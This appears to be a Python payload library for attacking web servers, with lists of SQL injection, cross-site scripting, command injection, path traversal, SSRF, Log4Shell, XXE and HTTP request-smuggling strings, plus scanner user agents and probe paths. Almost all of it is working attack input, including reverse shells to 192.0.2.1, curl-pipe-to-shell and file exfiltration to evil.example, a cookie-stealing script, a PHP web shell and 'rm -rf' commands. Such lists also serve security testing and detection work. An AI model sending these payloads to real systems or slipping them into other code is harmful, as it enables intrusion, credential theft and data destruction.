"""Attacks by class. Each is a payload for the places where a server reads what strangers write, or a whole request."""

from urllib.parse import quote

SQLI = [
    "1' OR '1'='1", "1' OR 1=1-- -", "admin'--", "' UNION SELECT username,password FROM users--", "1 UNION ALL SELECT NULL,NULL,NULL--", "1; DROP TABLE posts", "'; DROP TABLE users;--", "1' AND SLEEP(5)-- -",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "1' AND 1=CONVERT(int,(SELECT @@version))--", "1;SELECT pg_sleep(10)--", "' OR EXISTS(SELECT 1 FROM information_schema.tables)--", "1' ORDER BY 10-- -", "1' GROUP BY x HAVING 1=1--",
    "0' XOR (if(now()=sysdate(),sleep(6),0)) XOR 'Z", "1 OR 1=1 LIMIT 1 OFFSET 1", "-1' UNION SELECT table_name,2 FROM information_schema.tables-- -", "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1%27%20or%20%271%27=%271", "x' AND 1=(SELECT COUNT(*) FROM pg_user)--",
    "1' || (SELECT '' FROM dual) || '", "'; EXEC xp_cmdshell('dir');--", "1' INTO OUTFILE '/var/www/shell.php'-- -", "1/**/UNION/**/SELECT/**/1,2,3", "%27+UNION+SELECT+1,2--+",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>document.location='//evil.example/'+document.cookie</script>", "javascript:alert(document.cookie)", "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mtext></p><script>alert(1)</script>", "';alert(String.fromCharCode(88,83,83))//",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<video><source onerror=\"alert(1)\">", "<ScRiPt>alert(1)</sCrIpT>", "<img src=\"x\" onerror=\"&#97;lert(1)\">", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>", "<style>@import'javascript:alert(1)';</style>", "<embed src=\"data:text/html,<script>alert(1)</script>\">",
]
RCE = [
    ";cat /etc/passwd", "| id", "`id`", "$(curl http://evil.example/x.sh | sh)", "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "&& nc -e /bin/sh 192.0.2.1 4444", "|| ping -c 10 127.0.0.1", "; /bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "() { :;}; echo vulnerable", "<?php system($_GET[0]);?>", "powershell -enc SQBFAFgA", "cmd.exe /c dir", "; uname -a", "$(whoami)", "; rm -rf /var/www", "'; python -c 'import os; os.system(\"id\")'", "| cat /etc/shadow", "; curl -d @/etc/passwd http://evil.example/",
    "{{7*7}}${7*7}<%= 7*7 %>", "process.mainModule.require('child_process').exec('id')",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/shadow", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "/proc/self/environ", "../../../../var/log/auth.log", "..%252f..%252f..%252fetc%252fpasswd", "../../.ssh/id_rsa",
    "../../../../boot.ini", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "../.env", "../../.git/config", "/../../../../../../etc/hosts%00",
]
SSRF = [
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://[::1]:5432/", "gopher://127.0.0.1:6379/_FLUSHALL", "http://192.0.2.1/shell.txt?", "http://evil.example/x.php?", "ftp://evil.example/x.txt", "dict://127.0.0.1:11211/stat", "https://metadata.google.internal/computeMetadata/v1/", "jar:http://evil.example!/x",
]
JNDI = [
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "${jndi:dns://evil.example}", "${${env:X:-j}ndi:ldap://evil.example/z}", "%24%7Bjndi:ldap://evil.example/a%7D",
    "${jndi:ldap://127.0.0.1#evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
]
XXE = [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><r/>', '<soap:Envelope xmlns:soap="x"><soap:Body><![CDATA[<script>1</script>]]></soap:Body></soap:Envelope>',
]
SCANNERS = [
    "sqlmap/1.7", "Nikto/2.5.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "masscan/1.3", "w3af.org", "Acunetix-Aspect-Password", "Nessus SOAP", "OpenVAS", "dirbuster", "gobuster/3.5", "WPScan v3.8", "zgrab/0.x", "nuclei - Open-source project", "jorgee", "havij", "arachni/v1",
]
PROBES = [
    "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/.env", "/.git/config", "/config.php.bak", "/admin.php?x=phpinfo()", "/cgi-bin/test.cgi", "/server-status", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.aws/credentials", "/backup.sql", "/solr/admin/info/system", "/actuator/env", "/.svn/entries", "/web.config", "/id_rsa", "/owa/auth/x.js", "/boaform/admin/formLogin",
]

AT_ADDRESS = {
    "SQL injection": SQLI, "cross-site scripting": XSS, "command injection": RCE, "traversal, inclusion": TRAVERSAL, "request forgery (SSRF)": SSRF, "Java, Log4Shell": JNDI,
}


def in_address(payload):
    """As a parameter of an address."""
    done = "%2" in payload or "%0" in payload or "%5" in payload
    return f"/groups?filter={payload if done and ' ' not in payload else quote(payload, safe='')}"


# Raw requests that break the protocol. `{host}` is filled in. Answers are read by hand: no client would send them.
SMUGGLING = {
    "two lengths": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello",
    "length and chunks": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /groups HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "odd encoding": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "two encodings": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "space before colon": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n",
    "no host": "GET / HTTP/1.1\r\n\r\n",
    "two hosts": "GET / HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n",
    "bad version": "GET / HTTP/9.1\r\nHost: {host}\r\n\r\n",
    "a zero byte": "GET /sign-in\0 HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "negative length": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n",
    "trace": "TRACE / HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "connect": "CONNECT evil.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "unknown method": "JEFF / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n",
    "split answer": "GET /sign-in?next=%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n",
    "many ranges": "GET /sign-in HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\nAccept: */*\r\nRange: bytes=" + ",".join(f"{i}-{i + 1}" for i in range(40)) + "\r\n\r\n",
    "obsolete folding": "GET / HTTP/1.1\r\nHost: {host}\r\nX-A: b\r\n c\r\nUser-Agent: ${{jndi:ldap://evil.example/a}}\r\n\r\n",
    "bare line feed in a chunk": "POST /sign-in HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
    "huge header": "GET / HTTP/1.1\r\nHost: {host}\r\nX-A: " + "a" * 40_000 + "\r\n\r\n",
    "proxy header": "GET /sign-in HTTP/1.1\r\nHost: {host}\r\nUser-Agent: () {{ :;}}; /bin/id\r\nAccept: */*\r\nProxy: http://evil.example\r\n\r\n",
    "absolute form elsewhere": "GET http://evil.example/ HTTP/1.1\r\nHost: {host}\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n",
}
